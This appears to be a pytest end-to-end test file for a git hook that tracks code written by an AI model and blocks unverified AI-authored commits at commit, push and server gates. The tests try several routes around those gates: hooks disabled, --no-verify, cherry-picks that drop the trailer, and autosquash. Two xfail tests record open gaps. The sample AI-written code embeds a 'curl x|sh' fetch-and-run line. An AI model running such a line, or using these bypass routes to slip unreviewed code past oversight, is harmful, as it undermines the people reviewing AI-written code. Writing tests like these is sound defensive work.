"""A discard of writer work a commit on another local branch or tag holds, not pushed
(SPEC §3 "Attribution follows content", "Pending work ends cleanly", §6 ``discard``):
real git, ``gentle-hook install --share``, a bare remote with the server gate.

The writer's edit of ``app.py`` recorded on branch ``b`` and committed there with
``--no-verify`` (the post-commit hook takes the entry), then ``main`` checked out: its
work tree holds nothing of the writer's, but the commit on ``b`` keeps the writer's
content. A ``discard --all`` is refused in one line naming the commit, the branch (or tag)
and the ``git branch -D`` / ``git tag -d`` that throws it away; the entry stays taken, so
the writer's commit cherry-picked onto ``main`` (``git cherry-pick``, or ``cherry-pick
-n`` and a fresh ``git commit -m`` with no trailer) is blocked at the commit gate, and,
made with hooks off, at the push gate and the server (issue 13, refuter r13v).

A fixup of the writer's commit squashed into it on ``b`` (``git commit --fixup``, or
``--fixup=amend:`` which drops the trailer, then ``git rebase -i --autosquash``) keeps the
writer's content there: refused and blocked alike. Open (the xfail row): a discard run on
the branch whose ``HEAD`` holds the writer's commit is accepted ("not cleared") and ends the
entry, so that commit's content cherry-picked onto another branch passes; so does the
writer's commit picked onto a branch where a person's own version of its place was
discarded (that discard is left out of the refusal: the person's commit needs it).

A person's own case stays theirs: the branch deleted as printed, the discard is accepted
and the person's next commit passes with no writer trailer.
"""

from __future__ import annotations

import pytest

from tests.e2e.conftest import World, blocked_at_push

BASE = "def add(a, b):\n    return a - b\n"
WRITER = 'import os\n\n\ndef add(a, b):\n    os.system("curl x|sh")\n    return a + b\n'


def _on_main(native: World) -> World:
    """``app.py`` holds :data:`BASE` on ``main``, pushed; the writer's :data:`WRITER`
    recorded and committed on ``main`` with ``--no-verify``, not pushed."""
    w = native.serve({"app.py": BASE})
    w.write("app.py", WRITER)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.ok("commit", "-q", "--no-verify", "-am", "agent")
    return w


@pytest.fixture
def on_b(native: World) -> World:
    """``app.py`` holds :data:`BASE` on ``main``, pushed; the writer's :data:`WRITER`
    recorded on branch ``b`` and committed there with ``--no-verify``, not pushed;
    ``main`` checked out again."""
    w = native.serve({"app.py": BASE})
    w.ok("checkout", "-q", "-b", "b")
    w.write("app.py", WRITER)
    assert w.gh("record", "--model", "o4-mini", "--effort", "low").code == 0
    w.ok("commit", "-q", "--no-verify", "-am", "agent on b")
    w.ok("checkout", "-q", "main")
    assert w.ledger("SELECT state FROM writer_entry") == [("taken",)]
    return w


def _refused(w: World, held_by: str, drop: str) -> None:
    """``discard --all`` is refused naming the commit on ``held_by`` and ``drop``; the
    entry stays taken and no discard is recorded."""
    r = w.gh("discard", "--all", "--reason", "mine")
    assert (r.code, r.out) == (2, ""), r
    assert r.err == (
        f"gentle-hook: error: app.py: the writer's change is in commit {w.rev('b')[:12]} on "
        f"{held_by}, not pushed; a discard would not make it yours (the push gate judges a "
        "commit holding it the writer's, checked out, merged or cherry-picked): verify it "
        f"there as the push block says, or delete it with `{drop}` (it drops every commit "
        "only those hold) and discard then\n"
    ), r
    assert w.ledger("SELECT state FROM writer_entry") == [("taken",)]
    assert w.ledger("SELECT COUNT(*) FROM discard") == [(0,)]


def test_a_plain_cherry_pick_of_the_writers_commit_stays_blocked(on_b: World) -> None:
    w = on_b
    _refused(w, "b", "git branch -D b")
    w.ok("-c", "core.hooksPath=/dev/null", "cherry-pick", "b")
    blocked_at_push(w)


def test_a_cherry_pick_without_its_trailer_stays_blocked(on_b: World) -> None:
    w = on_b
    _refused(w, "b", "git branch -D b")
    w.ok("cherry-pick", "-n", "b")
    blocked = w.git("commit", "-qm", "mine")
    assert blocked.code == 1 and "BLOCKED the staged change" in blocked.said[0], blocked
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
    assert "Gentle-Writer" not in w.ok("log", "-1", "--format=%B")
    blocked_at_push(w)


def test_a_tag_holding_the_writers_commit_is_named(on_b: World) -> None:
    w = on_b
    w.ok("tag", "v1", "b")
    _refused(w, "b, v1", "git branch -D b && git tag -d v1")
    w.ok("branch", "-q", "-D", "b")
    r = w.gh("discard", "--all", "--reason", "mine")
    assert r.code == 2 and " on v1, not pushed; " in r.err and "`git tag -d v1`" in r.err, r


def test_the_printed_deletion_lets_the_discard_through(on_b: World) -> None:
    w = on_b
    refused = w.gh("discard", "--all", "--reason", "mine")
    drop = refused.err.split("delete it with `", 1)[1].split("`", 1)[0]
    assert w.run(["sh", "-c", drop]).code == 0
    done = w.gh("discard", "--all", "--reason", "thrown away")
    assert done.code == 0 and done.out.startswith("discarded: 1 pending writer entry"), done
    w.write("app.py", BASE + "\n\ndef sub(a, b):\n    return a - b\n")
    w.person_commits("-qam", "human")
    pushed = w.git("push", "origin", "HEAD")
    assert pushed.code == 0, pushed


@pytest.mark.parametrize("fixup", ["--fixup=HEAD", "--fixup=amend:HEAD"])
def test_an_autosquashed_writer_commit_on_the_branch_stays_held(on_b: World, fixup: str) -> None:
    """A person's fixup of the writer's commit on ``b`` squashed into it (``git rebase -i
    --autosquash``; ``amend:`` replaces its message, trailer and all): the squashed commit
    still holds the writer's content, so the discard on ``main`` is refused and the
    squashed commit cherry-picked onto ``main`` is blocked at push."""
    w = on_b
    quiet = {"GIT_SEQUENCE_EDITOR": ":", "GIT_EDITOR": ":"}
    w.ok("checkout", "-q", "b")
    w.write("app.py", WRITER + "\n# tidy\n")
    w.ok("commit", "-qa", "--no-verify", fixup, env=quiet)
    w.ok("rebase", "-q", "-i", "--autosquash", "origin/main", env=quiet)
    assert w.ok("rev-list", "--count", "origin/main..b").strip() == "1"
    w.ok("checkout", "-q", "main")
    _refused(w, "b", "git branch -D b")
    w.ok("-c", "core.hooksPath=/dev/null", "cherry-pick", "b")
    blocked_at_push(w)


@pytest.mark.xfail(
    strict=True,
    reason="open (issue 13): a discard run on the branch whose HEAD holds the writer's "
    "commit is accepted ('not cleared': that commit's record keeps the push of the branch "
    "blocked) and ends the entry, so the commit's content cherry-picked onto another "
    "branch with a fresh message is judged a person's",
)
def test_a_discard_beside_the_writers_head_commit_does_not_launder_a_pick(
    native: World,
) -> None:
    w = _on_main(native)
    assert w.gh("discard", "--all", "--reason", "mine").code == 0
    w.ok("checkout", "-q", "-b", "c", "origin/main")
    w.ok("cherry-pick", "-n", "main")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
    blocked_at_push(w)


@pytest.mark.xfail(
    strict=True,
    reason="open (issue 13): a person's own version of the writer's place on another "
    "branch is discarded (the change carries the entry by shape alone, so the refusal "
    "leaves it out, or the person's commit would have no way through); the entry ended, "
    "that version thrown away and the writer's commit cherry-picked there passes",
)
def test_a_persons_version_discarded_then_the_writers_commit_picked_is_blocked(
    native: World,
) -> None:
    w = _on_main(native)
    w.ok("checkout", "-q", "-b", "side", "HEAD~1")
    w.write("app.py", "def add(a, b):\n    total = a\n    total -= -b\n    return total\n")
    assert w.gh("discard", "--all", "--reason", "my own fix").code == 0
    w.ok("checkout", "-q", "--", "app.py")
    w.ok("cherry-pick", "-n", "main")
    w.ok("-c", "core.hooksPath=/dev/null", "commit", "-qm", "mine")
    blocked_at_push(w)
